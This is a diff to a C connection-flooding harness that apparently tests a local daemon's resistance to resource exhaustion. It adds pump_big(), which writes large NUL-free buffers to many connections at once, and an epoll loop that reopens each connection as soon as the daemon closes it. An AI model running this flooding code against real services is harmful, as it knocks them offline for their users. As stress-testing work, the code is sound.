@@ -27,6 +27,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/epoll.h>
 #include <sys/mman.h>
 #include <sys/resource.h>
 #include <sys/socket.h>
@@ -200,7 +201,6 @@ static void attack_linger(void)
 static int open_one(char mode, int memfd)
 {
 	static int fds[FDS_MAX];
-	static char *big;
 	int fd = vl_connect();
 
 	if (fd < 0)
@@ -216,14 +216,9 @@ static int open_one(char mode, int memfd)
 		}
 		break;
 	case 'b':
-		if (!big) {
-			big = malloc(big_bytes);
-			if (!big)
-				die("malloc");
-			memset(big, ' ', big_bytes);
-		}
-		/* Blocking: the daemon reads until its limit, or closes. */
-		(void)send(fd, big, big_bytes, MSG_NOSIGNAL);
+		/* Written by pump_big(), all connections at once. */
+		if (fcntl(fd, F_SETFL, O_NONBLOCK) < 0)
+			die("fcntl");
 		break;
 	case 's': {
 		int small = 4096;
@@ -251,21 +246,104 @@ static int count_open(const int *fds, int n)
 	return open;
 }
 
+/*
+ * Write big_bytes with no NUL to every connection, all at once, as fast
+ * as the daemon reads; one it closes, or one it does not read from, is
+ * left at the deadline. Returns how many got everything.
+ */
+static int pump_big(int *fds, double deadline)
+{
+	size_t *left = calloc((size_t)n_conns, sizeof(*left));
+	struct pollfd *p = calloc((size_t)n_conns, sizeof(*p));
+	static char chunk[65536];
+	int done = 0, active;
+
+	if (!left || !p)
+		die("calloc");
+	memset(chunk, ' ', sizeof(chunk));
+	for (int i = 0; i < n_conns; i++)
+		left[i] = fds[i] >= 0 ? big_bytes : 0;
+	do {
+		active = 0;
+		for (int i = 0; i < n_conns; i++)
+			p[i] = (struct pollfd){ .fd = left[i] ? fds[i] : -1, .events = POLLOUT };
+		if (poll(p, (nfds_t)n_conns, 100) < 0 && errno != EINTR)
+			die("poll");
+		for (int i = 0; i < n_conns; i++) {
+			ssize_t n;
+
+			if (!left[i])
+				continue;
+			if (p[i].revents & (POLLERR | POLLHUP)) {
+				left[i] = 0;
+				continue;
+			}
+			active++;
+			if (!(p[i].revents & POLLOUT))
+				continue;
+			n = send(fds[i], chunk, left[i] < sizeof(chunk) ? left[i] : sizeof(chunk),
+				 MSG_NOSIGNAL | MSG_DONTWAIT);
+			if (n < 0 && errno != EAGAIN && errno != EINTR)
+				left[i] = 0;
+			else if (n > 0 && (left[i] -= (size_t)n) == 0)
+				done++;
+		}
+	} while (active && now() < deadline);
+	free(left);
+	free(p);
+	return done;
+}
+
+static void watch(int ep, const int *fds, int i)
+{
+	struct epoll_event e = { .events = EPOLLIN | EPOLLRDHUP, .data.u32 = (uint32_t)i };
+
+	if (fds[i] >= 0)
+		(void)epoll_ctl(ep, EPOLL_CTL_ADD, fds[i], &e);
+}
+
 /* Hold what is open; with -r reopen what the daemon closes (not for streams: never read). */
 static void hold(char mode, int memfd, int *fds)
 {
 	double end = now() + hold_sec;
 
+	if (mode == 'b')
+		printf("written %d\n", pump_big(fds, end));
+	struct epoll_event ev[256];
+	int ep = epoll_create1(EPOLL_CLOEXEC);
+
+	if (ep < 0)
+		die("epoll_create1");
+	/* epoll, not poll: the attacker's own CPU is not what is measured. */
+	for (int i = 0; i < n_conns; i++)
+		watch(ep, fds, i);
 	while (now() < end) {
-		if (reconnect && mode != 's')
-			for (int i = 0; i < n_conns; i++)
-				if (fds[i] < 0 || closed_by_peer(fds[i])) {
-					if (fds[i] >= 0)
-						close(fds[i]);
-					fds[i] = open_one(mode, memfd);
-				}
-		usleep(reconnect ? 1000 : 100000);
+		int n;
+
+		if (!reconnect || mode == 's') {
+			usleep(100000);
+			continue;
+		}
+		/* Wait for the daemon to answer or close one, then open it again at once. */
+		n = epoll_wait(ep, ev, (int)(sizeof(ev) / sizeof(ev[0])), 100);
+		for (int k = 0; k < n; k++) {
+			int i = (int)ev[k].data.u32;
+
+			if (fds[i] >= 0 && !closed_by_peer(fds[i]))
+				continue;
+			if (fds[i] >= 0)
+				close(fds[i]);
+			fds[i] = open_one(mode, memfd);
+			watch(ep, fds, i);
+		}
+		/* Ones that could not be opened: try again. */
+		for (int i = 0; i < n_conns; i++)
+			if (fds[i] < 0) {
+				fds[i] = open_one(mode, memfd);
+				watch(ep, fds, i);
+			}
 	}
+	close(ep);
 }
 
 static void attack_hold(char mode)
